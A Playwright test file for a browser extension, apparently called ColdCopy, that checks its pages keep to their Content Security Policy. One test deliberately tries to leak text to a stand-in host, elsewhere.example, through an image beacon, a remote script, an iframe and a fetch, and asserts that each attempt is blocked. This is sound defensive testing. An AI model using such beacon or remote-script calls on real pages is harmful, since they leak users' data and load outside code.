/* What the extension's own pages may run, load and reach: the policy of wxt.config.ts, as the browser holds them to it. */
import type { Page } from '@playwright/test';
import type { ExtensionBrowser } from '../../scripts/lib/browser/browser.ts';
import { expect, test } from './fixtures.ts';

const PAGES = ['sidebar.html', 'popup.html', 'options.html', 'welcome.html', 'sample.html'];

/** Opens a page of the extension that keeps what of its policy was broken, from its first script on. */
async function open({ context, background }: ExtensionBrowser, file: string): Promise<Page> {
  const page = await context.newPage();
  await page.addInitScript(() => {
    const broken: string[] = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      broken.push(effectiveDirective),
    );
    Object.assign(globalThis, { broken });
  });
  await page.goto(new URL(file, background.url()).href);
  return page;
}

const brokenOn = (page: Page) =>
  page.evaluate(() => (globalThis as unknown as { broken: string[] }).broken);

for (const file of PAGES)
  test(`${file} keeps to the policy of the extension’s pages`, async ({ extensionBrowser }) => {
    const page = await open(extensionBrowser, file);
    await page.evaluate(() => new Promise(requestAnimationFrame));
    expect(await brokenOn(page)).toEqual([]);
    expect(await page.title()).toContain('ColdCopy');
    expect(await page.locator('html').getAttribute('lang')).toBe('en');
  });

test.describe('what would carry off what was read', () => {
  test.use({ expectedErrors: [/Content Security Policy/] });

  test('runs, loads and reaches nothing', async ({ extensionBrowser }) => {
    const page = await open(extensionBrowser, 'options.html');
    await page.evaluate(async () => {
      new Image().src = 'https://elsewhere.example/?text';
      document.body.append(
        Object.assign(document.createElement('script'), { src: 'https://elsewhere.example/it.js' }),
      );
      document.body.append(
        Object.assign(document.createElement('iframe'), { src: 'https://elsewhere.example/' }),
      );
      await fetch('http://elsewhere.example/?text').catch(() => undefined);
    });
    const broken = async () => [...new Set(await brokenOn(page))].sort();
    await expect.poll(broken).toEqual(['connect-src', 'frame-src', 'img-src', 'script-src-elem']);
  });
});
